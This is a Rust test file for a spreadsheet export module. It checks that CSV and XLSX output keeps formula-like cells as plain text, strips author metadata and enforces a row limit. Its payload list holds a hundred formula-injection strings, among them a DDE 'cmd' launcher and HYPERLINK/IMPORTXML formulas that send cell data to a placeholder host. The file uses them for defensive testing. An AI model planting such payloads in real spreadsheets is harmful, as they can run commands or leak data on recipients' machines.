//! W7 and P3: what is written out is text and names nobody.

use std::io::{Cursor, Read};

use calamine::{Data, Reader, Xlsx};
use zip::ZipArchive;
use zs_base::limits::EXPORT_ROWS_MAX;
use zs_paper::table::{Sheet, csv_of, xlsx_of};

/// A hundred texts that spreadsheets have been known to run.
fn payloads() -> Vec<String> {
    let heads = [
        "=",
        "+",
        "-",
        "@",
        "\t=",
        "\r=",
        "\n=",
        " =",
        "＝",
        "＋",
        "－",
        "＠",
        "|",
        "%0A=",
        "=-",
        "+=",
        "\u{feff}=",
        "'=",
        "\"=",
        "=\u{0}",
    ];
    let tails = [
        "1+1",
        "cmd|' /C calc'!A0",
        "HYPERLINK(\"http://a/?\"&A1,\"点我\")",
        "IMPORTXML(\"http://a\",\"//b\")",
        "SUM(1,2)\",\"x",
    ];
    let all = heads
        .iter()
        .flat_map(|head| tails.map(|tail| format!("{head}{tail}")));
    all.collect()
}

fn sheet() -> Sheet {
    Sheet {
        name: "数据".to_owned(),
        head: vec!["项".to_owned(), "号码".to_owned()],
        rows: payloads()
            .into_iter()
            .map(|text| vec![text, "110101199003070000".to_owned()])
            .collect(),
    }
}

#[test]
fn w7_every_payload_is_text_in_xlsx_for_a_second_reader() {
    let sheet = sheet();
    assert_eq!(sheet.rows.len(), 100);
    let bytes = xlsx_of(std::slice::from_ref(&sheet)).unwrap();
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(&bytes)).unwrap();
    assert!(book.worksheet_formula("数据").unwrap().is_empty());
    let range = book.worksheet_range("数据").unwrap();
    for (row, cells) in sheet.rows.iter().enumerate() {
        for (column, text) in cells.iter().enumerate() {
            let read = range.get_value((row as u32 + 1, column as u32)).unwrap();
            let Data::String(read) = read else {
                panic!("{text:?} is {read:?}");
            };
            // XML itself turns a carriage return into a line feed, and has no place for a nul.
            let plain = |text: &str| text.replace(['\r', '\0'], "\n");
            assert_eq!(plain(read).replace("_x0000_", "\n"), plain(text));
        }
    }
    // The raw XML holds no formula element either.
    let mut archive = ZipArchive::new(Cursor::new(&bytes)).unwrap();
    let mut xml = String::new();
    let mut part = archive.by_name("xl/worksheets/sheet1.xml").unwrap();
    part.read_to_string(&mut xml).unwrap();
    assert!(!xml.contains("<f>") && !xml.contains("<f "));
}

#[test]
fn w7_no_cell_of_a_csv_begins_like_a_formula() {
    let text = csv_of(&sheet());
    let text = text.strip_prefix('\u{feff}').unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes());
    let records: Vec<_> = reader.records().map(Result::unwrap).collect();
    assert_eq!(records.len(), 101);
    for (record, payload) in records[1..].iter().zip(payloads()) {
        let field = &record[0];
        let begins = field.trim_start().chars().next().unwrap();
        assert!(!"=+-@＝＋－＠|%".contains(begins), "{field:?}");
        assert!(
            field == payload || field == format!("'{payload}"),
            "{field:?}"
        );
        assert_eq!(&record[1], "110101199003070000");
    }
}

#[test]
fn p3_an_exported_workbook_names_nobody_and_hides_no_sheet() {
    let bytes = xlsx_of(&[sheet()]).unwrap();
    let mut archive = ZipArchive::new(Cursor::new(&bytes)).unwrap();
    let mut all = String::new();
    for name in ["docProps/core.xml", "docProps/app.xml", "xl/workbook.xml"] {
        archive
            .by_name(name)
            .unwrap()
            .read_to_string(&mut all)
            .unwrap();
    }
    assert!(
        all.contains("<dc:creator></dc:creator>") || !all.contains("<dc:creator>"),
        "{all}"
    );
    assert!(!all.contains("hidden"));
}

#[test]
fn a10_export_rows_max() {
    let of = |rows: usize| {
        let sheet = Sheet {
            name: "数据".to_owned(),
            head: vec!["项".to_owned()],
            rows: vec![vec!["x".to_owned()]; rows],
        };
        xlsx_of(&[sheet]).err().map(|it| it.code.id)
    };
    assert_eq!(of(EXPORT_ROWS_MAX), None);
    assert_eq!(of(EXPORT_ROWS_MAX + 1), Some("ZS5130"));
}
